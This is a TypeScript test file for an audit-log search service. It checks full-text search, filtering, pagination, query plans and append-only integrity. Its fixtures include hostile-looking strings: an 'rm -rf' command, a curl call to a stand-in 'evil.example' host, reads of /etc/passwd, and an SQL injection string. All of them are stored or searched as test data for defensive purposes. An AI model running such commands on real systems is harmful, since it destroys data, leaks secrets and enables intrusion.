import { env } from "cloudflare:workers";
import fc from "fast-check";
import { beforeAll, describe, expect, test } from "vitest";
import { type AuditFacts, auditEntry, searchAudit, toolCallEntries } from "#audit";
import { connect } from "#db";
import { ADMIN, admin, ask } from "../support/front.ts";
import { db, deliver } from "../support/events.ts";

const DAY = Date.UTC(2026, 9, 1);
const ACTOR = { kind: "user", id: "user_search" } as const;

async function written(facts: readonly Partial<AuditFacts>[]): Promise<string[]> {
  const entries = facts.map((each) => auditEntry({ type: "search.test", actor: ACTOR, at: DAY, ...each }));
  expect(await deliver(entries)).toEqual(entries.map(() => "ack"));
  return entries.map(({ id }) => id);
}

const found = async (filter: Parameters<typeof searchAudit>[1]) => (await searchAudit(db, filter, { limit: 100 })).rows.map(({ id }) => id);

describe("A57: text", () => {
  const SAID = {
    removal: { details: { input: { command: "rm -rf /workspace/build" } } },
    download: { details: { input: { command: "cd /tmp\ncurl -s https://data.evil.example:8443/x?y=1\twget" } } },
    reading: {
      type: "file_access",
      subject: { kind: "file", id: "/etc/passwd" },
      details: { paths: ["/etc/passwd", "C:\\new\\notes.txt"] },
    },
    change: { before: { name: "Größe" }, after: { limit_usd: "12.50", note: 'say "hello there"' } },
  } as const;
  const ids: Record<string, string> = {};
  beforeAll(async () => {
    const made = await written(Object.values(SAID));
    Object.keys(SAID).forEach((name, at) => (ids[name] = made[at]!));
  });

  test.each([
    ["rm -rf", ["removal"]],
    ['"rm -rf"', ["removal"]],
    ['"rf rm"', []],
    ["RM workspace", ["removal"]],
    ["rm curl", []],
    ["/workspace/build", ["removal"]],
    ["curl", ["download"]],
    ["wget curl", ["download"]],
    ["evil.example", ["download"]],
    ["https://data.evil.example:8443/x", ["download"]],
    ["y=1", ["download"]],
    ["/etc/passwd", ["reading"]],
    ["C:\\new\\notes.txt", ["reading"]],
    ["file_access passwd", ["reading"]],
    ["größe", ["change"]],
    ["grosse", []],
    ["12.50", ["change"]],
    ["limit_usd", ["change"]],
    ['"say hello"', ["change"]],
    ["hello there", ["change"]],
    ["hell", []],
    ["user_search", ["change", "download", "reading", "removal"]],
  ])("%s", async (text, expected) => {
    const names = (await found({ text, actor: ACTOR.id, to: DAY + 1 })).map((id) => Object.keys(ids).find((name) => ids[name] === id));
    expect(names.toSorted()).toEqual(expected);
  });

  test.each([
    '"',
    '""',
    "*",
    "rm*",
    "^rm",
    "rm AND",
    "NOT rm",
    "rm OR curl",
    "NEAR(rm curl)",
    "said:rm",
    "-said : rm",
    "{said}: rm",
    "(rm",
    "rm)",
    "a+b",
    "'; drop table audit_entries; --",
    'rm" OR "curl',
    'rm\u0000"',
    "\ud800 rm",
    "💥",
    "%_",
    ".".repeat(256),
    "a".repeat(256),
    '"'.repeat(256),
    "a ".repeat(128),
  ])("nothing that is typed is an operator or an error of ours: %j", async (q) => {
    const answer = await ask("GET", `/admin/v1/audit?q=${encodeURIComponent(q.toWellFormed())}`, { as: ADMIN });
    const body = await answer.json();
    if (/[a-z\d]/i.test(q)) expect(body).toMatchObject({ data: expect.any(Array), next_cursor: null });
    else expect(body).toMatchObject({ error: { code: "invalid_request", param: "q", message: expect.stringContaining("no word") } });
  });
});

describe("A57: fields, text and time", () => {
  const WORDS = ["build", "test", "deploy", "passwd", "rm"];
  const pick = <Item>(items: readonly Item[], at: number): Item => items[at % items.length]!;
  /** Entries of one day, many of one millisecond, written in an order and in batches of their own. */
  const entries = Array.from({ length: 300 }, (_, n) => {
    const random = (n * 2_654_435_761) >>> 0;
    return auditEntry({
      type: pick(["tool_call", "file_access", "key.update"], random >>> 3),
      actor: { kind: "user", id: pick(["user_x", "user_y"], random >>> 5) },
      subject: random % 3 === 0 ? null : { kind: "file", id: `/workspace/${pick(WORDS, random >>> 7)}` },
      severity: pick(["info", "info", "info", "warning", "critical"], random >>> 9),
      task: random % 4 === 0 ? null : pick(["task_p", "task_q"], random >>> 11),
      key: random % 5 === 0 ? null : pick(["key_p", "key_q", "key_r"], random >>> 13),
      team: pick(["team_p", "team_q"], random >>> 15),
      details: { words: `${pick(WORDS, random >>> 17)} ${pick(WORDS, random >>> 19)} of property` },
      at: DAY + 1_000 + (random % 60),
    });
  });
  beforeAll(async () => {
    const shuffled = entries.toSorted((a, b) => (a.id.slice(-5) < b.id.slice(-5) ? -1 : 1));
    for (let at = 0; at < shuffled.length; at += 70) expect(await deliver(shuffled.slice(at, at + 70))).not.toContain("retry");
  });

  const one = (...values: string[]) => fc.option(fc.constantFrom(...values), { nil: undefined, freq: 2 });
  const time = fc.option(fc.integer({ min: DAY + 990, max: DAY + 1_070 }), { nil: undefined, freq: 2 });
  const asked = fc.record({
    type: one("tool_call", "file_access", "key.update"),
    actor: one("user_x", "user_y"),
    subject: one("/workspace/build", "/workspace/rm", "/workspace"),
    severity: one("info", "warning", "critical") as fc.Arbitrary<"info" | "warning" | "critical" | undefined>,
    task: one("task_p", "task_q", "task"),
    key: one("key_p", "key_q"),
    team: one("team_p", "team_q"),
    text: one(...WORDS, '"rm deploy"', "rm deploy", "property"),
    from: time,
    to: time,
    order: fc.constantFrom("asc" as const, "desc" as const),
    limit: fc.integer({ min: 3, max: 80 }),
  });
  type Wanted = typeof asked extends fc.Arbitrary<infer Value> ? Value : never;

  function holds(entry: (typeof entries)[number], { from = 0, to = Infinity, text, ...wanted }: Wanted): boolean {
    const said = JSON.stringify([entry.subject?.id, entry.details]);
    const worded =
      text === undefined ||
      (text.startsWith('"') ? said.includes(text.slice(1, -1)) : text.split(" ").every((word) => said.includes(word)));
    const { type, severity, task, key, team, actor, subject } = entry;
    const has = { type, severity, task, key, team, actor: actor.id, subject: subject?.id };
    const same = Object.entries(has).every(([name, value]) => [undefined, value].includes(wanted[name as keyof typeof has] as never));
    return same && worded && entry.at >= from && entry.at < to;
  }

  test("any of them together find what they name, page by page, in the order of time from either end", async () => {
    await fc.assert(
      fc.asyncProperty(asked, async ({ limit, ...wanted }) => {
        const { order } = wanted;
        const filter = Object.fromEntries(Object.entries({ from: DAY + 900, to: DAY + 2_000, ...defined(wanted) }));
        const seen: { id: string; at: number }[] = [];
        for (let cursor: string | null = ""; cursor !== null;) {
          const page: Awaited<ReturnType<typeof searchAudit>> = await searchAudit(db, filter, { limit, ...(cursor ? { cursor } : {}) });
          expect(page.rows.length).toBeLessThanOrEqual(limit);
          seen.push(...page.rows);
          cursor = page.next;
        }
        const expected = entries.filter((entry) => holds(entry, { limit, ...wanted }));
        expect(seen.map(({ id }) => id).toSorted()).toEqual(expected.map(({ id }) => id).toSorted());
        const times = seen.map(({ at }) => at);
        expect(times).toEqual(times.toSorted((a, b) => (order === "asc" ? a - b : b - a)));
      }),
      { numRuns: 150 },
    );
  });
});

describe("A57: how it is searched", () => {
  /** The steps by which SQLite answers a search; those within another, such as the reading of the index of words, are indented. */
  async function planOf(filter: Parameters<typeof searchAudit>[1]): Promise<string[]> {
    const asked: [string, unknown[]][] = [];
    const seen = {
      prepare: (text: string) => ({ bind: (...given: unknown[]) => (asked.push([text, given]), env.DB.prepare(text).bind(...given)) }),
    };
    await searchAudit(connect(seen as unknown as D1Database), filter, { limit: 50, cursor: `${DAY}.aud_x` });
    const [text, given] = asked[0]!;
    const { results } = await env.DB.prepare(`explain query plan ${text}`)
      .bind(...given)
      .all<{ parent: number; detail: string }>();
    return results.map(({ parent, detail }) => `${parent === 0 ? "" : "  "}${detail}`);
  }

  test.each([
    [{}, "at"],
    [{ task: "t", type: "tool_call", severity: "info" as const, order: "asc" as const }, "task"],
    [{ key: "k", severity: "info" as const }, "key"],
    [{ key: "k", type: "tool_call", actor: "a" }, "key_type"],
    [{ type: "tool_call", from: 1, to: 2 }, "type_at"],
    [{ type: "tool_call", severity: "critical" as const }, "severity"],
    [{ type: "tool_call", severity: "info" as const, team: "t" }, "team"],
    [{ subject: "s", key: "k", type: "tool_call" }, "subject"],
    [{ actor: "a", severity: "critical" as const }, "actor"],
  ])("%j is read from the index that leaves the fewest, in its order", async (filter, index) => {
    const plan = await planOf(filter);
    expect(plan[0]).toMatch(new RegExp(`^SEARCH audit_entries USING INDEX audit_entries_${index} \\(`));
    expect(plan.slice(1).filter((step) => step !== "USE TEMP B-TREE FOR LAST TERM OF ORDER BY")).toEqual([]);
  });

  test.each([{}, { task: "t", type: "tool_call" }, { key: "k", from: 1, to: 2, order: "asc" as const }])(
    "words with %j are read in the order of the answer, and only its page is sorted",
    async (filter) => {
      const plan = await planOf({ ...filter, text: "rm" });
      expect(plan).toContainEqual(expect.stringMatching(/^ {2}SCAN audit_search VIRTUAL TABLE INDEX/));
      expect(plan).toContainEqual(expect.stringMatching(/^ {2}SEARCH audit_entries USING (COVERING )?INDEX \w+ \(.*at=\?/));
      expect(plan.filter((step) => step.startsWith("  ") && step.includes("TEMP B-TREE"))).toEqual([]);
    },
  );
});

describe("A58: the index", () => {
  test("says what the entries say, whatever was delivered again or refused", async () => {
    const entry = auditEntry({ type: "once.more", actor: ACTOR, at: DAY, details: { note: "again" } });
    const broken = { ...auditEntry({ type: "once.more", actor: ACTOR, at: DAY }), severity: "loud" };
    expect(await deliver([entry, entry, broken])).toEqual(["ack", "ack", "retry"]);
    await deliver([entry]);
    expect(await found({ text: "again once.more" })).toEqual([entry.id]);
    // Compares every word of the index with the entries, and fails where they differ.
    await env.DB.prepare("insert into audit_search (audit_search, rank) values ('integrity-check', 1)").run();
    await env.DB.prepare("insert into audit_search (rowid, said) values (1, 'forged')").run();
    const forged = env.DB.prepare("insert into audit_search (audit_search, rank) values ('integrity-check', 1)").run();
    await expect(forged).rejects.toThrow();
    await env.DB.prepare("insert into audit_search (audit_search, rowid, said) values ('delete', 1, 'forged')").run();
  });

  test("an entry is there for good: it cannot be changed nor dropped", async () => {
    const [id] = await written([{ details: { note: "for good" } }]);
    for (const statement of ["update audit_entries set details = '{}' where id = ?", "delete from audit_entries where id = ?"])
      await expect(env.DB.prepare(statement).bind(id).run()).rejects.toThrow("audit entries are append-only");
    expect(await found({ text: '"for good"' })).toEqual([id]);
  });

  test("takes entries of any time, the end of numbers included, and finds the words of those up to the year 2109", async () => {
    const times = [0, 1, 2 ** 42 - 1, 2 ** 42, Number.MAX_SAFE_INTEGER];
    const ids = await written(times.map((at) => ({ at, details: { note: "whenever" } })));
    expect((await found({ actor: ACTOR.id, from: 2 ** 42 - 1 })).toSorted()).toEqual(ids.slice(2).toSorted());
    expect((await found({ text: "whenever" })).toSorted()).toEqual(ids.slice(0, 3).toSorted());
    expect(await found({ text: "whenever", from: 1, to: 2 })).toEqual([ids[1]]);
  });
});

test("A52: calls of a task are read in the order in which they were made", async () => {
  const place = { task: "task_read", key: "key_read", team: "team_read", at: DAY };
  const call = (order: number) => ({ agent: "codex", tool: `tool_${order}`, input: "{}", verdict: "allowed" }) as const;
  const made = Array.from({ length: 30 }, (_, order) => order);
  const told = await Promise.all(made.map((order) => toolCallEntries(call(order), { ...place, order, request: `req_${(order * 7) % 3}` })));
  for (const part of [2, 0, 1, 2])
    await deliver(
      told
        .slice(part * 10, part * 10 + 10)
        .flat()
        .toReversed(),
    );
  const { data } = await admin<{ data: { details: { tool: string } }[] }>("GET", "/audit?task=task_read&type=tool_call&order=asc");
  expect(data.map(({ details }) => details.tool)).toEqual(made.map((order) => `tool_${order}`));
});

function defined<Fields extends object>(fields: Fields): Partial<Fields> {
  return Object.fromEntries(Object.entries(fields).filter(([, value]) => value !== undefined)) as Partial<Fields>;
}
